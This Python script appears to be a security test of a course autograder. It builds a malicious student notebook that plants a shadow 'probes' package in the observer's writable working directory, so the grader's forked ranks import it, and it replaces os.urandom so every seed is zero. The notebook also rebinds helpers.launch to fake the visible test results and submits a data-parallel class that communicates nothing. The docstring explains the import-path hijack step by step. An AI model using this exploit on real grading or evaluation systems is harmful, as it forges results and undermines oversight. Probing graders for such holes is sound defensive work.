"""a09 (HELD, see a09b: the ranks have no '' on sys.path): ps2 -- does the observer's fork server import from a folder the student's code writes?

Where the observer's launches go through multiprocessing's fork server (a GPU host: helpers.launch.fork_server_needed();
here DISTCOURSE_START_METHOD=forkserver in the TA's environment stands in for the GPU, a flag the grader passes on),
the server is exec'd as `python -c 'from multiprocessing.forkserver import main; ...'`. With -c, sys.path[0] is ''
= its cwd, which is the observer's cwd (/tmp/observer-XXXX in the observer sandbox's /tmp, writable by the
student's code, same uid), and '' comes before PYTHONPATH. Every rank the server forks inherits that sys.path and
cwd, and its first act (helpers.launch._forkserver_entry) is cloudpickle.loads(job): the job's function is the
probe's, pickled by reference, so the rank imports `probes.<assignment>` -- and `probes` is not preloaded in the
server, so it is looked up afresh, '' first. A `probes/` package planted in the observer's cwd is imported instead
of the course's, in the rank, BEFORE _draw_seed: it loads the real probes and sets os.urandom to zeros, so every
rank of every later launch draws seed 0 (round 11's outcome through another door: nothing written into any
process's memory). A first try (a09_first_try_kill_server.out.txt) planted `helpers/` and killed the server to get
a fresh one: the observer's sweep reaped the server and the next launches failed (ChildProcessError).

Notebook (from release/): average_gradients (sacrificed, in a rank of the first launch) plants the package into
the observer's cwd; MyDDP makes no dist call at all; the kernel's visible asserts are passed by rebinding helpers.launch in the kernel (only hidden
checks count). Control: the same notebook without the plant (mallory_ctrl). Honest: source/ (control only)."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import u13

SHADOW_INIT = r'''
import os, sys
_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
for _p in sys.path:
    _cand = os.path.join(os.path.abspath(_p or "."), "probes")
    if os.path.abspath(_p or ".") != _here and os.path.isfile(os.path.join(_cand, "__init__.py")):
        break
__path__[:] = [_cand]
__file__ = os.path.join(_cand, "__init__.py")
exec(compile(open(__file__).read(), __file__, "exec"), globals())
os.urandom = lambda n: bytes(n)      # this rank draws seed 0 (helpers.launch._draw_seed runs after this import)
'''

def avg_source(plant):
    return r'''
_real_launch = helpers.launch
def _fake_launch(fn, world, *a, **k):   # the kernel's visible asserts only
    name = getattr(fn, "__name__", "")
    if name in ("_check_average", "_check_sync"):
        return [[[1.5, 1.5], [1.5]]] * 2
    if name == "_check_broadcast":
        return [(True, (1, 2))] * 2
    return _real_launch(fn, world, *a, **k)
helpers.launch = _fake_launch
_SHADOW = %r
_PLANT = %r

def average_gradients(model):
    import os, glob, signal
    if _PLANT:
        for d in set([os.getcwd()] + glob.glob("/tmp/observer-*")):
            try:
                os.makedirs(os.path.join(d, "probes"), exist_ok=True)
                with open(os.path.join(d, "probes", "__init__.py"), "w") as f:
                    f.write(_SHADOW)
            except OSError:
                pass
    raise RuntimeError("sacrificed")
''' % (SHADOW_INIT, plant)

DDP = r'''
class MyDDP(nn.Module):
    """Communicates nothing: no broadcast, no all-reduce, no send/recv."""
    def __init__(self, module):
        super().__init__()
        self.module = module
    def forward(self, *args, **kwargs):
        return self.module(*args, **kwargs)
    def sync_gradients(self):
        pass
'''

def nb(plant):
    return u13.notebook("ps2_ddp", overrides={"average_gradients": avg_source(plant), "my_ddp": DDP})

env = sys.argv[1:] or ["DISTCOURSE_START_METHOD=forkserver"]
dest = u13.course("a09", {("mallory", "ps2_ddp"): nb(True), ("mallory_ctrl", "ps2_ddp"): nb(False),
                          ("zz_honest", "ps2_ddp"): u13.honest("ps2_ddp")})
print("TA environment adds:", env)
u13.grade(dest, env=env)
u13.scores(dest)
u13.report(dest)
import nbformat
for s in ("mallory", "mallory_ctrl"):
    p = f"{dest}/autograded/{s}/ps2_ddp/ps2_ddp.ipynb"
    if os.path.exists(p):
        for c in nbformat.read(p, 4).cells:
            if c.get("metadata", {}).get("nbgrader", {}).get("grade_id", "").startswith(("my_ddp_", "average_gradients_")):
                for o in c.get("outputs", []):
                    print(s, c.metadata.nbgrader.grade_id, "OUTPUT:", (o.get("text") or str(o.get("evalue")))[:500])
